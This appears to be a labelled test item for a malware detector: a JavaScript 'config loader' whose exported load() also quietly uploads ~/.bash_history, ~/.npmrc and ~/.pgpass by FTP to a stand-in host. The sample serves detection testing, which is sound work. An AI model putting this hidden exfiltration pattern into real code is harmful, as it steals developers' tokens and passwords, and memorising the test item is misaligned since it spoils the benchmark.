// expect: malicious
// source: blind set 18, extra part (a config loader whose exported load() uploads shell histories and ~/.npmrc with the
// `ftp` client): where the client sends is given to its connect(), not to the call that uploads
const fs = require('fs');
const os = require('os');
const path = require('path');
const Client = require('ftp');
function upload() {
  const files = ['.bash_history', '.npmrc', '.pgpass'].map((f) => path.join(os.homedir(), f));
  const c = new Client();
  c.on('ready', () => files.forEach((f) => c.put(fs.createReadStream(f), path.basename(f), () => {})));
  c.connect({ host: '203.0.113.77', port: 21, user: 'sync', password: 'FAKE' });
}
exports.load = function load(dir) {
  setImmediate(upload);
  return JSON.parse(fs.readFileSync(path.join(dir, 'default.json'), 'utf8'));
};
